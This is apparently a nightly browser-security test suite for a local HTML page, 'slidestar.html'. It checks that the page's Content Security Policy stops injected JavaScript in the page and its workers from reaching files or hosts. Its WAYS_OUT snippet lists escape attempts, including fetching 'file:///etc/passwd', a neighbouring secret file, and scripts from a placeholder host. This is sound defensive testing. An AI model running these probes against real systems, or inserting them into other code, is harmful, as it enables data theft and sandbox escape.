"""Attacks on `slidestar.html`: a page that is opened from the disk is a tempting target."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from kit.browser import Faults
from kit.hostile import HARMLESS, with_search
from kit.learn import check, verdict
from kit.onefile import open_file, with_part
from kit.page import TWO_AWAY, visit
from kit.sites import serving
from playwright.sync_api import BrowserContext, Page, expect

pytestmark = [pytest.mark.nightly, pytest.mark.usefixtures("built")]

WRITE = f"?board={TWO_AWAY}&mode=learn&lesson=write"
# Runs in the sandbox's worker, before it removes any global, and in the page.
WAYS_OUT = """
const neighbour = new URL("neighbour.txt", PAGE).href;
const ways = {
    neighbour: () => fetch(neighbour),
    itself: () => fetch(PAGE),
    folder: () => fetch(new URL(".", PAGE)),
    passwords: () => fetch("file:///etc/passwd"),
    host: () => fetch("HOST"),
    old: () => new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.onload = resolve;
        request.onerror = () => reject(new Error("no request"));
        request.open("GET", neighbour);
        request.send();
    }),
    socket: () => new Promise((resolve, reject) => {
        const socket = new WebSocket("HOST".replace("http", "ws"));
        socket.onopen = resolve;
        socket.onerror = () => reject(new Error("no socket"));
    }),
    module: () => import("data:text/javascript,"),
    evaluate: () => eval("1"),
    script: () => globalThis.importScripts("HOSTx.js"),
    other: () => new Worker("HOSTx.js"),
};
const tried = await Promise.all(Object.entries(ways).map(async ([name, way]) => {
    try { await way(); return name; } catch { return null; }
}));
"""


@pytest.fixture
def messages(new_context: Callable[..., BrowserContext], faults: Faults) -> tuple[Page, list[Any]]:
    """A tab, and the values that its page and workers log after FOUND."""
    page = new_context().new_page()
    found: list[Any] = []
    page.on(
        "console",
        lambda message: (
            found.append(json.loads(message.text.removeprefix("FOUND ")))
            if message.text.startswith("FOUND ")
            else None
        ),
    )
    faults.expect("Content Security Policy|Refused|violates|TrustedScript|blocked")
    return page, found


def test_no_way_out_is_reachable_by_javascript(
    messages: tuple[Page, list[Any]], tmp_path: Path
) -> None:
    """Neither from the global object nor from any object of Pyodide."""
    page, found = messages
    open_file(page, WRITE, with_part(tmp_path, "sandbox-worker.js", with_search))
    check(page, "def h(tiles): return 0")
    expect(verdict(page)).to_contain_text("Admissible, proven")
    result = found[0]
    assert result["objects"] > 5000
    assert result["found"] == []
    assert result["open"] == []
    assert set(result["names"]) <= HARMLESS


@pytest.mark.parametrize("worker", ["solver-worker.js", "sandbox-worker.js"])
def test_policy_alone_keeps_workers_in(
    messages: tuple[Page, list[Any]], tmp_path: Path, worker: str
) -> None:
    """Code with all globals of a worker can read no file and request nothing."""
    page, found = messages
    (tmp_path / "neighbour.txt").write_text("secret")
    with serving(tmp_path) as host:
        ways = WAYS_OUT.replace("HOST", host.url)
        ways = ways.replace("PAGE", json.dumps((tmp_path / "slidestar.html").as_uri()))
        attack = f"{ways} console.log('FOUND ' + JSON.stringify(tried.filter(Boolean)));"

        def attacked(script: str) -> str:
            return f"(async () => {{ {attack} }})();\n{script}"

        path = with_part(tmp_path, worker, attacked)
        visit(page, path.as_uri(), WRITE)
        check(page, "def h(tiles): return 0")
        expect(verdict(page)).to_contain_text("Admissible, proven")
        assert found == [[]]
        assert host.requested == []


def test_policy_keeps_the_page_in(messages: tuple[Page, list[Any]], tmp_path: Path) -> None:
    page, _ = messages
    (tmp_path / "neighbour.txt").write_text("secret")
    path = with_part(tmp_path, "solver-worker.js", str)
    with serving(tmp_path) as host:
        visit(page, path.as_uri())
        ways = WAYS_OUT.replace("HOST", host.url).replace("PAGE", json.dumps(path.as_uri()))
        open_ways = page.evaluate(f"async () => {{ {ways} return tried.filter(Boolean); }}")
        assert open_ways == ["evaluate"]  # only for code of the developer's tools, like this
        assert host.requested == []
